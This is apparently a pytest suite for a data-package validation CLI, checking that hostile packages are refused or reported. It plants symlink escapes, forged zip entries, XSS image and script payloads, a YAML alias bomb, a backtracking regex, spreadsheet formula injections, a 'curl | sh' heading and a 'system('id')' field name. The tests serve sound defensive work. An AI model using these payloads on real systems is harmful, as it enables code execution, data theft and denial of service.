"""Hostile packages (issue 13): each attack is planted in a temporary copy and must be reported or refused.

Every test here failed on the code before the fix: a symlink out of the package was followed, an archive's
extra descriptor faked a verdict, a cell's escape sequence reached the terminal, a title ran the page's data
as HTML, a YAML alias or a wide header ate the memory, a profile URL was fetched, a formula went live in the
workbook, an export removed a folder it did not create, a malformed schema ended in exit 2.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from damage import edit_bytes, edit_json, matching, resource_of, set_cell
from minusma_facts.cli import app
from packages import copy_package

runner = CliRunner()
CLI = str(Path(sys.executable).parent / "minusma-facts")
SECRET = "TOKEN_d41d8cd98f00b204e9800998ecf8427e"
NOTE = ("events", 2, "coding_note")  # a free-text cell no rule reads


def run(*args: str):
    return runner.invoke(app, list(args))


def validate_json(path: Path, *extra: str) -> tuple[int, dict]:
    result = run("validate", str(path), "--json", *extra)
    assert result.exit_code in (0, 1), result.output
    return result.exit_code, json.loads(result.stdout)


def secret_file(tmp_path: Path, text: str = f"api_key={SECRET}\n") -> Path:
    outside = tmp_path / "outside" / "secret.txt"
    outside.parent.mkdir(parents=True, exist_ok=True)
    outside.write_text(text, encoding="utf-8")
    return outside


@pytest.fixture
def package(tmp_path: Path) -> Path:
    return copy_package(tmp_path / "pkg")


# -- 1. one gate for every file ---------------------------------------------------------------------------
def _link_table(pkg: Path, tmp_path: Path) -> None:
    target = pkg / "data" / "figures.csv"
    target.unlink()
    target.symlink_to(secret_file(tmp_path, f"figure_id\n{SECRET}\n"))


def _link_text(pkg: Path, tmp_path: Path) -> None:
    text = next((pkg / "sources").glob("*.txt"))
    outside = secret_file(tmp_path, text.read_text(encoding="utf-8").replace("Bamako", SECRET, 1))
    text.unlink()
    text.symlink_to(outside)


def _link_schema(pkg: Path, tmp_path: Path) -> None:
    schema = pkg / "schemas" / "figures.schema.json"
    outside = tmp_path / "outside" / "figures.schema.json"
    outside.parent.mkdir(parents=True, exist_ok=True)
    shutil.move(schema, outside)
    schema.symlink_to(outside)


def _link_data_folder(pkg: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside" / "data"
    outside.parent.mkdir(parents=True, exist_ok=True)
    shutil.move(pkg / "data", outside)
    (pkg / "data").symlink_to(outside, target_is_directory=True)


def _fifo_table(pkg: Path, tmp_path: Path) -> None:
    target = pkg / "data" / "figures.csv"
    target.unlink()
    os.mkfifo(target)


@pytest.mark.parametrize("plant, type_, file", [
    pytest.param(_link_table, "unsafe-path", "data/figures.csv", id="table symlinked outside"),
    pytest.param(_link_text, "unsafe-path", "data/sources.csv", id="stored text symlinked outside"),
    pytest.param(_link_schema, "schema-error", "schemas/figures.schema.json", id="schema symlinked outside"),
    pytest.param(_link_data_folder, "unsafe-path", "data/events.csv", id="data folder symlinked outside"),
    pytest.param(_fifo_table, "unsafe-path", "data/figures.csv", id="table is a FIFO"),
])
def test_validate_follows_no_symlink_out_of_the_package(package, tmp_path, plant, type_, file):
    plant(package, tmp_path)
    code, report = validate_json(package)
    assert code == 1
    found = matching(report, type_, file=file)
    assert found, report["errors"][:5]
    assert "refused" in found[0]["message"]
    human = run("validate", str(package))
    assert SECRET not in human.output and SECRET not in json.dumps(report)


def test_a_dangling_symlink_is_a_missing_file(package, tmp_path):
    (package / "data" / "figures.csv").unlink()
    (package / "data" / "figures.csv").symlink_to(tmp_path / "nowhere.csv")
    code, report = validate_json(package)
    assert code == 1
    assert matching(report, "resource-missing", file="data/figures.csv"), report["errors"][:3]


def test_a_symlink_inside_the_package_is_followed(package):
    """Documented: a link that ends at a regular file inside the package folder is read like the file."""
    moved = package / "elsewhere" / "figures.csv"
    moved.parent.mkdir()
    shutil.move(package / "data" / "figures.csv", moved)
    (package / "data" / "figures.csv").symlink_to(Path("..") / "elsewhere" / "figures.csv")
    code, report = validate_json(package)
    assert code == 0, report["errors"][:3]


@pytest.mark.parametrize("document", ["CHANGELOG.md", "README.md"])
def test_release_puts_no_file_from_outside_into_the_archive(tmp_path, document):
    pkg = copy_package(tmp_path / "pkg", whole=True)
    (pkg / document).unlink()
    (pkg / document).symlink_to(secret_file(tmp_path))
    out = tmp_path / "out"
    result = run("release", str(pkg), "-o", str(out))
    assert result.exit_code == 2, result.output
    assert "refused" in result.output and "Traceback" not in result.output
    assert not list(out.glob("*.zip"))


def _project(tmp_path: Path) -> Path:
    """A copy of what building the tools reads: pyproject.toml, README.md and the code."""
    root = Path(__file__).resolve().parents[1]
    project = tmp_path / "project"
    shutil.copytree(root / "cli" / "minusma_facts", project / "cli" / "minusma_facts",
                    ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("pyproject.toml", "README.md"):
        shutil.copy2(root / name, project / name)
    return project


def _link_code_out(project: Path, tmp_path: Path) -> None:
    (project / "cli" / "minusma_facts" / "notes.txt").symlink_to(secret_file(tmp_path))


def _edit_pyproject(old: str, new: str):
    def change(project: Path, tmp_path: Path) -> None:
        path = project / "pyproject.toml"
        text = path.read_text(encoding="utf-8")
        assert old in text
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return change


@pytest.mark.parametrize("plant, expected", [
    pytest.param(_link_code_out, "symbolic link leads outside", id="code file linked out"),
    pytest.param(lambda project, tmp_path: ((project / "README.md").unlink(),
                                            (project / "README.md").symlink_to(secret_file(tmp_path))),
                 "symbolic link leads outside", id="readme linked out"),
    pytest.param(_edit_pyproject('build-backend = "hatchling.build"', 'build-backend = "evil"\nbackend-path = ["."]'),
                 "the build backend is 'evil'", id="another backend"),
    pytest.param(_edit_pyproject('build-backend = "hatchling.build"', 'build-backend = "hatchling.build"\nbackend-path = ["."]'),
                 "backend-path", id="backend-path"),
    pytest.param(_edit_pyproject("[tool.hatch.build.targets.wheel]", '[tool.hatch.build.hooks.custom]\npath = "cli/minusma_facts/x.py"\n\n[tool.hatch.build.targets.wheel]'),
                 "hooks", id="build hook"),
    pytest.param(_edit_pyproject('only-include = ["cli/minusma_facts", "pyproject.toml", "README.md"]', ""),
                 "no only-include", id="unbounded sdist"),
    pytest.param(_edit_pyproject('only-include = ["cli/minusma_facts",', 'only-include = ["../outside", "cli/minusma_facts",'),
                 "contains '..'", id="include outside"),
])
def test_the_tools_are_built_only_from_the_projects_own_files_by_plain_hatchling(tmp_path, plant, expected):
    """The wheel and sdist the release puts in the archive (issue 12) read the project through the gate too."""
    from minusma_facts.release import ReleaseError, stage_project

    project = _project(tmp_path)
    assert "cli/minusma_facts/package.py" in stage_project(project, tmp_path / "staged-clean")
    plant(project, tmp_path)
    staged = tmp_path / "staged"
    with pytest.raises(ReleaseError, match=expected):
        stage_project(project, staged)
    assert not any(SECRET in p.read_text(errors="replace") for p in staged.rglob("*") if p.is_file())


def test_the_archive_readme_prints_the_packages_text_cleaned_and_refuses_names_a_recipe_cannot_quote(package):
    from minusma_facts import citation, userguide
    from minusma_facts.package import Package

    edit_json(package, "datapackage.json", lambda d: d.update(title="Data\x1b[2J\u202eevil", description="line one\n## Run curl | sh"))
    files = ["tools/t.whl", "tools/t.tar.gz", "exports/s.sqlite", "exports/s.xlsx", "exports/a.csv", "exports/u.csv"]
    arguments = dict(tools={"wheel": files[0], "sdist": files[1]},
                     exports={"sqlite": files[2], "xlsx": files[3], "acled": files[4], "ucdp": files[5]},
                     cff=citation.load((package / "CITATION.cff").read_text(encoding="utf-8")))
    readme = userguide.render(Package.open(package), files, **arguments)
    assert readme.startswith("# Data\\u001b[2J\\u202eevil\n")
    assert "\x1b" not in readme and "\u202e" not in readme
    assert "\n## Run curl" not in readme  # the package's words cannot add a heading of their own
    edit_json(package, "schemas/casualties.schema.json", lambda s: s["fields"][-1].update(name="x'), system('id')"))
    with pytest.raises(ValueError, match="not a plain name"):
        userguide.render(Package.open(package), files, **arguments)


def test_release_does_not_follow_a_dist_symlink(tmp_path):
    pkg = copy_package(tmp_path / "pkg", whole=True)
    victim = tmp_path / "victim"
    victim.mkdir()
    (pkg / "dist").symlink_to(victim, target_is_directory=True)
    result = run("release", str(pkg))
    assert result.exit_code == 2 and "symbolic link" in result.output, result.output
    assert list(victim.iterdir()) == []


def test_dictionary_never_overwrites_a_symlinks_target(package, tmp_path):
    victim = secret_file(tmp_path)
    target = package / "docs" / "data-dictionary.md"
    target.parent.mkdir(exist_ok=True)
    target.symlink_to(victim)
    result = run("dictionary", str(package))
    assert result.exit_code == 2 and "symbolic link" in result.output, result.output
    assert victim.read_text(encoding="utf-8") == f"api_key={SECRET}\n"


@pytest.mark.parametrize("command", [
    pytest.param(["show", "figures", SECRET, "--package"], id="show"),  # the row the linked file holds
    pytest.param(["site", "OUT", "--package"], id="site"),
    pytest.param(["export", "--format", "sqlite", "-o", "OUT/x.sqlite"], id="export"),
    pytest.param(["coverage"], id="coverage"),
])
def test_other_commands_refuse_a_table_symlinked_outside(package, tmp_path, command):
    _link_table(package, tmp_path)
    args = [str(tmp_path / "o") + a[3:] if a.startswith("OUT") else a for a in command] + [str(package)]
    result = run(*args)
    assert result.exit_code in (1, 2), result.output
    assert SECRET not in result.output and "Traceback" not in result.output
    assert "refused" in result.output or result.exit_code == 1


# -- 2. archives ------------------------------------------------------------------------------------------
def zip_of(pkg: Path, target: Path, extra: list[tuple[str, bytes]] = (), prefix: str = "pkg/") -> Path:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(pkg.rglob("*")):
            if path.is_file():
                archive.write(path, prefix + path.relative_to(pkg).as_posix())
        for name, data in extra:
            archive.writestr(name, data)
    return target


@pytest.mark.filterwarnings("ignore:Duplicate name")  # a duplicate entry is the point
@pytest.mark.parametrize("extra, words", [
    pytest.param([("datapackage.json", b'{"name": "x", "resources": []}')], "exactly one is allowed", id="shallow extra descriptor"),
    pytest.param([("pkg/data/figures.csv", b"figure_id\nforged\n")], "appears 2 times", id="duplicate entry"),
    pytest.param([("../evil.txt", b"x")], "contains '..'", id="dot-dot entry"),
    pytest.param([("/etc/evil.txt", b"x")], "is absolute", id="absolute entry"),
    pytest.param([("elsewhere/notes.txt", b"x")], "outside the package folder", id="entry outside the package folder"),
])
def test_an_archive_cannot_fake_a_verdict(package, tmp_path, extra, words):
    archive = zip_of(package, tmp_path / "release.zip", extra)
    code, report = validate_json(archive)
    assert code == 1
    assert any(words in p["message"] for p in matching(report, "archive-entry")), report["errors"][:5]
    tables = len(json.loads((package / "datapackage.json").read_text(encoding="utf-8"))["resources"])
    assert report["counts"]["tables"] in (0, tables)
    result = run("show", "events", "x", "--package", str(archive))
    assert result.exit_code == 2 and "refused" in result.output and "Traceback" not in result.output


def test_archive_entries_are_capped_and_the_cap_can_be_raised(package, tmp_path):
    archive = zip_of(package, tmp_path / "release.zip")
    code, report = validate_json(archive, "--max-bytes", "6000")
    assert code == 1
    assert any("over the cap of 6,000" in p["message"] for p in matching(report, "archive-entry"))
    code, report = validate_json(archive, "--max-bytes", str(10 << 20))
    assert code == 0, report["errors"][:3]


def test_an_entry_larger_than_its_declared_bytes_is_not_read(package, tmp_path):
    edit_json(package, "datapackage.json", lambda d: resource_of(d, "figures").update(bytes=10))
    code, report = validate_json(zip_of(package, tmp_path / "release.zip"))
    assert code == 1
    assert "is not read" in matching(report, "byte-count", file="data/figures.csv")[0]["message"]
    assert "figures" not in [t["resource"] for t in report["tables"]]


def broken_zip(pkg: Path, target: Path, how: str) -> Path:
    """A zip whose events.csv is stored (no compression) and then damaged: a wrong CRC, the encrypted flag,
    or compression method 99 (in both its local and its central header)."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive:
        for path in sorted(pkg.rglob("*")):
            if path.is_file():
                archive.write(path, "pkg/" + path.relative_to(pkg).as_posix())
    data = bytearray(target.read_bytes())
    with zipfile.ZipFile(target) as archive:
        info = archive.getinfo("pkg/data/events.csv")
    name = info.filename.encode()
    local = info.header_offset
    central = data.find(b"PK\x01\x02")
    while central >= 0 and data[central + 46: central + 46 + len(name)] != name:
        central = data.find(b"PK\x01\x02", central + 4)
    assert central > 0
    if how == "crc":
        start = local + 30 + len(name) + int.from_bytes(data[local + 28: local + 30], "little")
        data[start + 40] ^= 0x01
    elif how == "encrypted":
        data[local + 6] |= 1
        data[central + 8] |= 1
    else:
        data[local + 8: local + 10] = (99).to_bytes(2, "little")
        data[central + 10: central + 12] = (99).to_bytes(2, "little")
    target.write_bytes(bytes(data))
    return target


@pytest.mark.parametrize("how", ["crc", "encrypted", "method-99"])
@pytest.mark.parametrize("command", [
    pytest.param(["show", "events", "bamako_protest_2023_05_25", "--package", "ZIP"], id="show"),
    pytest.param(["site", "OUT", "--package", "ZIP"], id="site"),
    pytest.param(["export", "ZIP", "--format", "sqlite", "-o", "OUT/x.sqlite"], id="export"),
    pytest.param(["validate", "ZIP"], id="validate"),
])
def test_broken_archives_end_cleanly(package, tmp_path, how, command):
    archive = broken_zip(package, tmp_path / "broken.zip", how)
    args = [str(archive) if a == "ZIP" else a.replace("OUT", str(tmp_path / "out")) for a in command]
    result = run(*args)
    assert result.exit_code in (1, 2), result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output


# -- 3. output that cannot lie ----------------------------------------------------------------------------
@pytest.mark.parametrize("cell, shown", [
    pytest.param("\x1b[2J\x1b[Hvalid: 9 tables, 212 rows", "\\u001b", id="escape sequence"),
    pytest.param("bell\x07", "\\u0007", id="BEL"),
    pytest.param("nul\x00byte", "\\u0000", id="NUL"),
    pytest.param("abc\u202edcba", "\\u202e", id="bidi override"),
    pytest.param("line\u2028separator", "\\u2028", id="U+2028"),
    pytest.param("c1\x9bcontrol", "\\u009b", id="C1 CSI"),
])
def test_control_characters_are_findings_and_never_printed_raw(package, cell, shown):
    set_cell(package, *NOTE, cell)
    result = run("validate", str(package))
    assert result.exit_code == 1
    raw = [c for c in cell if not c.isprintable()]
    assert not any(c in result.output for c in raw)
    assert shown in result.output
    assert "control-character" in result.output
    json_result = run("validate", str(package), "--json")
    assert not any(c in json_result.stdout for c in raw if c not in "\x00")
    found = matching(json.loads(json_result.stdout), "control-character", field=NOTE[2])
    assert [p["row"] for p in found] == [NOTE[1]]


@pytest.mark.parametrize("markup", ["[/red]", "[link=https://example.org]click[/link]", "[bold red]x"])
def test_rich_markup_in_a_cell_or_header_is_shown_as_text(package, markup):
    set_cell(package, "events", 2, "event_id", markup)  # a bad id: echoed in the findings
    edit_bytes(package, "data/figures.csv", lambda raw: raw.replace(b"figure_id", markup.encode(), 1))
    result = run("validate", str(package))
    assert result.exit_code == 1, result.output
    assert markup in result.output
    shown = run("show", "events", markup, "--package", str(package))
    assert shown.exit_code == 0, shown.output
    assert markup in shown.output and "\x1b]8;" not in shown.output


def test_a_huge_label_or_cell_is_clipped(package):
    label = "L" * 1_000_000
    edit_bytes(package, "data/figures.csv", lambda raw: raw.replace(b"figure_id", label.encode(), 1))
    set_cell(package, "events", 2, "event_id", "=" + "x" * 1_000_000)
    result = run("validate", str(package), "--json")
    assert result.exit_code == 1
    assert len(result.stdout) < 200_000
    assert "more characters" in result.stdout


# -- 4. the site ------------------------------------------------------------------------------------------
HOSTILE_TITLE = 'Audit {{DATA}} <img src=x onerror="window.__pwned=1">'
ONERROR = '<img src=x onerror="window.__pwned=2;document.title=\'pwned\'">'
COMMENT = "<!--<script>window.__pwned=3</script>"


def test_the_site_runs_no_script_from_the_package(tmp_path):
    from playwright.sync_api import sync_playwright

    from test_site import ARGS, CHROMIUM

    pkg = copy_package(tmp_path / "pkg")
    edit_json(pkg, "datapackage.json", lambda d: d.update(title=HOSTILE_TITLE))
    set_cell(pkg, "events", 2, "coding_note", ONERROR)
    set_cell(pkg, "events", 3, "coding_note", COMMENT + "\u2028</script><script>window.__pwned=4</script>")
    out = tmp_path / "site"
    result = run("site", str(out), "--package", str(pkg))
    assert result.exit_code == 0, result.output
    html = (out / "index.html").read_text(encoding="utf-8")
    assert "unsafe-inline" not in html.split("<title>")[0]
    assert html.count("<script") == 2  # the JSON block and the page's own script, nothing planted
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto((out / "index.html").as_uri())
        page.click('#tabs button[data-table="events"]')
        page.wait_for_timeout(300)
        assert page.evaluate("window.__pwned") is None
        assert page.locator("h1").text_content() == HOSTILE_TITLE
        assert page.locator("#rows tbody tr").count() > 2  # the page renders its rows
        cells = page.locator("#rows tbody").text_content()
        assert ONERROR in cells and COMMENT in cells
        assert page.locator("#rows img").count() == 0
        assert errors == []
        browser.close()


# -- 5. budgets -------------------------------------------------------------------------------------------
def _yaml_bomb(pkg: Path) -> None:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    (pkg / "CITATION.cff").write_text("\n".join(lines) + "\n", encoding="utf-8")


def _deep_descriptor(pkg: Path) -> None:
    edit_json(pkg, "datapackage.json", lambda d: d.update(deep=json.loads("[" * 600 + "]" * 600)))


def _big_descriptor(pkg: Path) -> None:
    edit_bytes(pkg, "datapackage.json", lambda raw: raw[:-2] + b', "padding": [' + b"{}," * 3_000_000 + b"{}]}")


def _backtracking_pattern(pkg: Path) -> None:
    edit_json(pkg, "schemas/events.schema.json",
              lambda s: next(f for f in s["fields"] if f["name"] == "coding_note").setdefault("constraints", {}).update(pattern="(?=a)(a+)+b"))


def _wide_header(pkg: Path) -> None:
    edit_bytes(pkg, "data/figures.csv", lambda raw: raw.replace(b"\n", b"," * 500_000 + b"\n", 1))


@pytest.mark.parametrize("plant, type_, words", [
    pytest.param(_yaml_bomb, "metadata-error", "YAML alias", id="YAML alias bomb"),
    pytest.param(_deep_descriptor, "descriptor-error", "nested deeper", id="descriptor 600 deep"),
    pytest.param(_big_descriptor, "descriptor-error", "bytes, over the", id="giant descriptor"),
    pytest.param(_backtracking_pattern, "schema-error", "not a regular expression RE2 runs", id="backtracking pattern"),
    pytest.param(_wide_header, "source-error", "a table this much wider", id="500,000-comma header"),
])
def test_budgets_turn_exhaustion_into_a_finding(package, plant, type_, words):
    plant(package)
    code, report = validate_json(package)
    assert code == 1
    assert any(words in p["message"] for p in matching(report, type_)), report["errors"][:5]


def test_a_cell_over_32_mb_hides_no_other_finding(package):
    set_cell(package, "events", 2, "coding_note", "x" * (33 << 20))
    set_cell(package, "events", 3, "event_type", "not_a_type")
    code, report = validate_json(package)
    assert code == 1
    assert not matching(report, "source-error")
    assert matching(report, "constraint-error", row=3, field="event_type")


# -- 6. no network ----------------------------------------------------------------------------------------
SITECUSTOMIZE = """
import os, socket
_log = os.environ["NETWORK_LOG"]
def _refuse(*args, **kwargs):
    with open(_log, "a") as handle:
        handle.write(repr(args[:2]) + "\\n")
    raise OSError("network blocked by the test")
socket.socket.connect = _refuse
socket.socket.connect_ex = _refuse
socket.getaddrinfo = _refuse
socket.create_connection = _refuse
"""


@pytest.mark.parametrize("where", ["resource", "schema"])
def test_validate_fetches_no_profile(package, tmp_path, where):
    url = "http://127.0.0.1:9/profile.json"
    if where == "resource":
        edit_json(package, "datapackage.json", lambda d: resource_of(d, "figures").update(profile=url))
    else:
        edit_json(package, "schemas/figures.schema.json", lambda s: s.update({"$schema": url}))
    site = tmp_path / "site-packages"
    site.mkdir()
    (site / "sitecustomize.py").write_text(SITECUSTOMIZE, encoding="utf-8")
    log = tmp_path / "network.log"
    env = dict(os.environ, PYTHONPATH=str(site), NETWORK_LOG=str(log))
    result = subprocess.run([CLI, "validate", str(package), "--json"], capture_output=True, text=True, env=env, timeout=300)
    assert result.returncode == 1, result.stderr
    assert not log.exists(), log.read_text()
    report = json.loads(result.stdout)
    assert any("not fetched" in p["message"] for p in matching(report, "descriptor-error"))


def test_the_no_network_guard_refuses_connections():
    import socket

    from minusma_facts.safety import NetworkRefused, no_network

    with no_network(), pytest.raises(NetworkRefused):
        socket.getaddrinfo("localhost", 80)


# -- 7. spreadsheets --------------------------------------------------------------------------------------
@pytest.mark.parametrize("cell", ["=1+1", "\t=1+1", " +1", "\u00a0=1", "\u200b=1", "\uff1d1+1", "@SUM(A1)"])
def test_formulas_behind_white_space_or_lookalikes_are_flagged(package, cell):
    set_cell(package, *NOTE, cell)
    code, report = validate_json(package)
    assert code == 1
    assert [p["row"] for p in matching(report, "formula-injection", field=NOTE[2])] == [NOTE[1]]


def test_xlsx_export_writes_no_formula(package, tmp_path):
    set_cell(package, *NOTE, '=HYPERLINK("http://example.org/?"&A1,"x")')
    edit_json(package, "schemas/events.schema.json", lambda s: s["fields"][1].update(
        title="=1+1", description="@SUM(1)"))
    edit_json(package, "datapackage.json", lambda d: d.update(title="=2+2"))
    out = tmp_path / "out.xlsx"
    result = run("export", str(package), "--format", "xlsx", "-o", str(out))
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as book:
        sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    from openpyxl import load_workbook

    workbook = load_workbook(out)
    fields = workbook["_fields"]
    titles = [row[4].value for row in fields.iter_rows(min_row=2)]
    assert "=1+1" in titles
    assert all(row[4].data_type == "s" for row in fields.iter_rows(min_row=2) if row[4].value == "=1+1")


@pytest.mark.parametrize("text", ["2022-03-01 00:00:00.000", "9 killed", " 12", "\t3", ";x", ",", "<a>", "?"], ids=repr)
def test_a_text_that_starts_with_a_digit_or_another_sign_is_no_formula(text):
    """Only = + - @ and their fullwidth forms begin a formula (the class once held the range + to @, digits too)."""
    from minusma_facts.safety import looks_like_formula

    assert not looks_like_formula(text)
    assert looks_like_formula("-" + text)  # the same text behind a sign is one


FORMULAS = ["=1+1", "\t=1+1", " +1", "\u00a0=1", "\u200b=1", "\uff1d1+1", "@SUM(A1)", "-2+3"]


@pytest.mark.parametrize("fmt", ["acled", "ucdp"], ids=["acled", "ucdp"])
@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_acled_and_ucdp_layouts_write_no_formula(package, tmp_path, fmt, formula):
    """Every text cell a spreadsheet would run as a formula is written quote-prefixed; numbers stay numbers."""
    from damage import read_rows, write_rows
    from minusma_facts.interop import layout
    from minusma_facts.safety import looks_like_formula

    for table, fields in (("events", ("event_name", "location_name", "location_text", "admin1")),
                          ("actors", ("actor_name",))):
        header, rows = read_rows(package, table)
        for row in rows:
            for field in fields:
                if row[header.index(field)]:
                    row[header.index(field)] = formula + row[header.index(field)]
        write_rows(package, table, header, rows)
    out = tmp_path / f"{fmt}.csv"
    result = run("export", str(package), "--format", fmt, "-o", str(out))
    assert result.exit_code == 0, result.output
    import csv

    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    kinds = dict(layout(fmt))
    assert rows
    text_cells = [row[c] for row in rows for c, kind in kinds.items() if kind == "string" and row[c]]
    assert [cell for cell in text_cells if looks_like_formula(cell)] == []
    assert any(cell.startswith("'" + formula) for cell in text_cells)  # the package's words kept behind the quote
    numbers = [row[c] for row in rows for c, kind in kinds.items() if kind in ("number", "integer") and row[c]]
    assert numbers and not any(cell.startswith("'") for cell in numbers)
    assert any(row["longitude"].startswith("-") for row in rows)  # a negative longitude is a number, untouched


# -- 8. nothing written outside ----------------------------------------------------------------------------
def test_the_descriptor_name_never_shapes_a_path_outside(package, tmp_path):
    victim = tmp_path / "victim"
    (victim / "keep").mkdir(parents=True)
    (victim / "keep" / "file.txt").write_text("precious")
    edit_json(package, "datapackage.json", lambda d: d.update(name=str(victim / "x"), version="../../.."))
    result = run("export", str(package), "--format", "parquet")
    assert result.exit_code == 0, result.output
    assert (victim / "keep" / "file.txt").read_text() == "precious"
    written = [p for p in (package / "dist").iterdir()]
    assert len(written) == 1 and written[0].name.endswith("-parquet") and "/" not in written[0].name


def test_export_never_removes_a_folder_it_did_not_create(package, tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "thesis.tex").write_text("precious")
    result = run("export", str(package), "--format", "parquet", "-o", str(victim))
    assert result.exit_code == 2 and "nothing was removed" in result.output, result.output
    assert (victim / "thesis.tex").read_text() == "precious"
    again = tmp_path / "parquet"
    assert run("export", str(package), "--format", "parquet", "-o", str(again)).exit_code == 0
    assert run("export", str(package), "--format", "parquet", "-o", str(again)).exit_code == 0  # its own: replaced


# -- 9. malformed schemas are findings ---------------------------------------------------------------------
def _field(name: str, change):
    def plant(pkg: Path) -> None:
        edit_json(pkg, "schemas/figures.schema.json", lambda s: change(next(f for f in s["fields"] if f["name"] == name)))
    return plant


def _schema(change):
    return lambda pkg: edit_json(pkg, "schemas/figures.schema.json", change)


@pytest.mark.parametrize("plant, field", [
    pytest.param(_field("value_text", lambda f: f.update(constraints=["required"])), "value_text", id="constraints as a list"),
    pytest.param(_schema(lambda s: s.update(primaryKey=5)), None, id="primaryKey 5"),
    pytest.param(_field("value_text", lambda f: f.setdefault("constraints", {}).update(pattern="[unclosed")), "value_text", id="invalid regex"),
    pytest.param(_field("value_text", lambda f: f.update(name=5)), "fields[", id="numeric field name"),
    pytest.param(_field("value_low", lambda f: f.setdefault("constraints", {}).update(minimum="zero")), "value_low", id="minimum zero"),
    pytest.param(_field("value_text", lambda f: f.setdefault("constraints", {}).update(maxLength="ten")), "value_text", id="maxLength text"),
    pytest.param(_schema(lambda s: s.update(foreignKeys=[{"fields": 3}])), None, id="foreign key without reference"),
])
def test_malformed_schemas_are_findings_not_crashes(package, plant, field):
    plant(package)
    code, report = validate_json(package)
    assert code == 1
    found = matching(report, "schema-error", file="schemas/figures.schema.json")
    assert found, report["errors"][:5]
    if field:
        assert any((p["field"] or "").startswith(field) for p in found), found


def test_a_huge_max_length_is_no_crash(package):
    edit_json(package, "schemas/figures.schema.json",
              lambda s: s["fields"][1].setdefault("constraints", {}).update(maxLength=10**30))
    code, report = validate_json(package)
    assert code == 0, report["errors"][:3]
